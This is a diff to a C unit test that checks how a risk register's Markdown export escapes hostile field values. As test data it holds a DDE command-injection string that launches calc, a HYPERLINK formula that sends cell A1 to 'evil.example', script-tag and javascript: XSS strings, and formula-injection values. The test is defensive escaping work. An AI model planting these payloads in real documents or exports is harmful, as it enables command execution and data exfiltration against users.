@@ -249,11 +249,11 @@ test_hostile_md (void)
     "| 3 | +cmd\\|' /C calc'!A0 | Security | 3 · Possible | 4 · Major | 12 | High | 4 · Low | -Eve+1 | Closed |\n"));
   g_assert_nonnull (strstr (md,
     "\n1\\. **\\=HYPERLINK(\"http://evil.example/?\"\\&A1,\"Click\")**\n\n"
-    "- Mitigation: Line one, with comma<br>Line two \"quoted\"\n"
-    "- Contingency: \t=1+1\n"));
+    "- Mitigation: Line one, with comma\\\nLine two \"quoted\"\n"
+    "- Contingency: \t\\=1+1\n"));
   g_assert_nonnull (strstr (md,
     "\n2\\. **\\<script\\>alert('x')\\</script\\> \\& \\<b\\>bold\\</b\\>**\n\n"
-    "- Mitigation: \\*star\\* \\_under\\_ \\[link\\](javascript:alert(1)) \\| pipe # hash<br>1. item<br>- dash\n"
+    "- Mitigation: \\*star\\* \\_under\\_ \\[link\\](javascript:alert(1)) \\| pipe # hash\\\n1\\. item\\\n\\- dash\n"
     "- Contingency: @SUM(A1:A2)\n"));
   g_assert_true (g_str_has_suffix (md,
     "\n3\\. **+cmd\\|' /C calc'!A0**\n\n"
